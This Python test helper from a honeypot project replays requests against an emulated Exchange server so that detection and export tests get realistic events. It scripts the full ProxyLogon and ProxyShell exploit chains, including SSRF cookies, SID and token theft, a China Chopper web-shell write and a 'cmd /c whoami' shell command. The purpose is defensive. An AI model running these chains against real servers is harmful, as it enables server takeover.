"""Play requests through a persona in-process and record the events the sensor would spool.

The same path as the sensor without sockets: request bytes → ``HttpParser`` → persona → artifacts stored
in a real spool → ``recording.request_event`` → spool record. Detection and export tests get the events
an exploit chain really produces, with a controlled clock and source address.
"""

from __future__ import annotations

import time
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from honeyscope.events.codec import encode_event
from honeyscope.events.ids import new_event_id
from honeyscope.events.schema import ArtifactRef, Endpoint, HttpRequestEvent
from honeyscope.sensor.http.parser import HttpParser, RawRequest
from honeyscope.sensor.personas.base import Persona, PersonaRequest, Reply
from honeyscope.sensor.recording import ConnectionFacts, Exchange, TlsFacts, make_observer, request_event
from honeyscope.sensor.spool import SpoolWriter
from honeyscope.testing import exploits
from honeyscope.testing.requests import raw_request_bytes


class InProcessRecorder:
    """One attacker (source address) talking to one persona over one connection; every request is
    recorded into ``spool`` as the sensor would record it."""

    def __init__(self, persona: Persona, spool: Path, *, source_ip: str = "203.0.113.7",
                 host: str = "mail.contoso.com", start: datetime | None = None,
                 step: timedelta = timedelta(seconds=1), tls: bool = True, sensor_name: str = "decoy-1") -> None:
        self.persona = persona
        self.spool = SpoolWriter(spool)
        self.host = host
        self.now = start or datetime(2021, 3, 3, 12, 0, tzinfo=UTC)
        self.step = step
        self.events: list[HttpRequestEvent] = []
        self.state: dict[str, Any] = {}
        self.connection_state: dict[str, Any] = {}
        self.facts = ConnectionFacts(
            connection_id=new_event_id()[-17:].replace("-", ""), listener="https" if tls else "http",
            persona=persona.name, observer=make_observer(sensor_name),
            source=Endpoint(ip=source_ip, port=50123), destination=Endpoint(ip="10.0.0.5", port=443 if tls else 80),
            tls=TlsFacts(established=True, version="1.2", server_name=host) if tls else None,
        )
        self._index = 0

    def send(self, method: str, target: str, headers: Sequence[tuple[str, str]] = (),
             body: bytes = b"") -> tuple[Reply, HttpRequestEvent]:
        """Play one request; returns the persona's reply and the recorded event."""
        data = raw_request_bytes(method, target, headers, body, host=self.host)
        parsed = HttpParser().feed(data)
        if len(parsed) != 1 or parsed[0].error is not None:
            raise ValueError(f"request did not parse as one well-formed request: {parsed}")
        raw = parsed[0]
        started = time.perf_counter_ns()
        reply = self.persona.handle(self._persona_request(raw))
        handled = time.perf_counter_ns()
        self._index += 1
        artifacts = [ArtifactRef(sha256=self.spool.store_artifact(a.content), size=len(a.content), kind=a.kind,
                                 name=a.name) for a in reply.artifacts]
        exchange = Exchange(raw=raw, response=reply.response, reply=reply, request_index=self._index,
                            received_at=self.now, read_us=0, handle_us=(handled - started) // 1000,
                            duration_ns=handled - started, artifacts=artifacts, forwarded_for=None,
                            source=self.facts.source)
        event = request_event(self.facts, exchange)
        self.spool.append([encode_event(event)])
        self.events.append(event)
        self.now += self.step
        return reply, event

    def _persona_request(self, raw: RawRequest) -> PersonaRequest:
        path, _, query = raw.target.partition("?")
        return PersonaRequest(
            method=raw.method, target=raw.target, path=path, query=query, version=raw.version,
            headers=raw.headers, body=raw.body, body_length=raw.body_length,
            scheme="https" if self.facts.tls else "http", source_ip=self.facts.source.ip,
            source_port=self.facts.source.port, local_ip=self.facts.destination.ip,
            local_port=self.facts.destination.port, now=self.now, state=self.state,
            connection_state=self.connection_state, server_name=self.host if self.facts.tls else None,
        )

    def close(self) -> None:
        self.spool.close()


# -- whole chains, played the way their tools play them (exchange-facts.md B.3, B.6) ----------------

_EMAIL = "administrator@contoso.com"
_DDI_ALL = ('{"filter":{"Parameters":{"__type":"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.'
            'ControlPanel","SelectedView":"","SelectedVDirType":"All"}},"sort":{}}')


def _between(text: str, start: str, end: str) -> str:
    return text.split(start, 1)[1].split(end, 1)[0]


def proxylogon_in_the_wild(recorder: InProcessRecorder, shell: str = "OutlookZH.aspx") -> Reply:
    """ProxyLogon as logged in the wild in March 2021 (facts B.3): every step on ``POST /ecp/y.js`` with
    ``X-BEResource=a]@<backend>:444/<path>?#~<n>``, user agents ExchangeServicesClient/0.0.0.0 then
    python-requests/2.25.1; China Chopper in the OAB ExternalUrl, written to ``owa\\auth\\<shell>``, then
    one command. Returns the web shell's reply to the command."""
    backend = "exch01.contoso.local"

    def ssrf(path: str, body: str | bytes, *, agent: str = "python-requests/2.25.1", ctype: str = "text/xml",
             session: str = "", sid: str = "") -> Reply:
        end = "#" if "?" in path else "?#"  # the in-the-wild form: the rest of the URL becomes the fragment
        cookie = f"X-BEResource=a]@{backend}:444{path}{end}~1941962753;" + (f" {session}" if session else "")
        headers = [("User-Agent", agent), ("Cookie", cookie), ("Content-Type", ctype)]
        headers += [("msExchLogonMailbox", sid)] if sid else []
        data = body.encode() if isinstance(body, str) else body
        return recorder.send("POST", "/ecp/y.js", headers, data)[0]

    reply = ssrf("/autodiscover/autodiscover.xml", exploits.AUTODISCOVER_BODY.format(email=_EMAIL),
                 agent="ExchangeServicesClient/0.0.0.0")
    text = reply.response.body.decode()
    legacy_dn = _between(text, "<LegacyDN>", "</LegacyDN>")
    mailbox = next(part.split("</Server>")[0] for part in text.split("<Server>")[1:] if "@" in part.split("<")[0])
    reply = ssrf(f"/mapi/emsmdb/?MailboxId={mailbox}", legacy_dn.encode() + exploits.MAPI_CONNECT_SUFFIX,
                 ctype="application/mapi-http")
    sid = exploits.patch_sid(_between(reply.response.body.decode("latin-1"), "with SID ", " and MasterAccountSid"))
    reply = ssrf("/ecp/proxyLogon.ecp", f'<r at="Negotiate" ln="administrator"><s>{sid}</s></r>', sid=sid)
    jar = dict(value.split(";")[0].split("=", 1) for name, value in reply.response.headers if name == "Set-Cookie")
    canary, session = jar["msExchEcpCanary"], "; ".join(f"{k}={v}" for k, v in jar.items())
    json_type = "application/json; charset=utf-8"
    reply = ssrf(f"/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory",
                 _DDI_ALL, ctype=json_type, session=session, sid=sid)
    oab = ("OAB (Default Web Site)", _between(reply.response.body.decode(), '"RawIdentity":"', '"'))
    external = "http://f/#" + exploits.CHOPPER.format(key="klk123456")
    ssrf(f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory",
         exploits._oab_set_body(*oab, "ExternalUrl", external), ctype=json_type, session=session, sid=sid)
    target = ("\\\\127.0.0.1\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy"
              "\\owa\\auth\\" + shell)
    ssrf(f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory",
         exploits._oab_set_body(*oab, "FilePathName", target), ctype=json_type, session=session, sid=sid)
    command = b'klk123456=Response.Write(new ActiveXObject("WScript.Shell").Exec("cmd /c whoami").StdOut.ReadAll());'
    return recorder.send("POST", f"/owa/auth/{shell}", [("User-Agent", "antSword/v2.1"),
                         ("Content-Type", "application/x-www-form-urlencoded")], command)[0]


def proxyshell_dmaasland(recorder: InProcessRecorder, subject: str = "qwertyuiopasdfgh") -> Reply:
    """ProxyShell as dmaasland/proxyshell-poc plays it (facts B.6): autodiscover → SID → X-Rps-CAT → EWS
    draft with the PST-encoded shell → role assignment → mailbox export to ``aspnet_client\\<subject>.aspx``
    → one command. Returns the web shell's reply to the command."""
    address = "kqzpa@mbxcv.xyz"

    def send(request: exploits.ToolRequest) -> Reply:
        return recorder.send(*request.args())[0]

    reply = send(exploits.dma_post(address, "/autodiscover/autodiscover.xml",
                                   exploits.AUTODISCOVER_BODY.format(email=_EMAIL), "text/xml"))
    legacy_dn = _between(reply.response.body.decode(), "<LegacyDN>", "</LegacyDN>")
    reply = send(exploits.dma_post(address, "/mapi/emsmdb", legacy_dn.encode() + exploits.MAPI_CONNECT_SUFFIX,
                                   "application/mapi-http"))
    sid = _between(reply.response.body.decode("latin-1"), "with SID ", " and MasterAccountSid")
    token = exploits.common_access_token(_EMAIL, sid)
    send(exploits.dma_create_item(address, token, sid, subject, _EMAIL))

    def post(body: bytes) -> exploits.ToolRequest:
        return exploits.dma_post(address, f"/powershell/?X-Rps-CAT={token}", body, "application/soap+xml;charset=UTF-8")

    client = exploits.PsrpClient()
    send(post(client.create()))
    send(post(client.receive()))
    file_path = f"\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\{subject}.aspx"
    for cmdlets in ([("New-ManagementRoleAssignment", {"Role": "Mailbox Import Export", "User": _EMAIL})],
                    [("New-MailboxExportRequest", {"Mailbox": _EMAIL, "FilePath": file_path,
                                                   "IncludeFolders": "#Drafts#",
                                                   "ContentFilter": f"Subject -eq '{subject}'"})]):
        command_id, body = client.command(cmdlets)
        send(post(body))
        send(post(client.receive(command_id)))
        send(post(client.signal(command_id)))
    send(post(client.delete()))
    send(exploits.ToolRequest("GET", f"/aspnet_client/{subject}.aspx"))
    return send(exploits.dma_exec(f"/aspnet_client/{subject}.aspx", "zzdel", "whoami"))
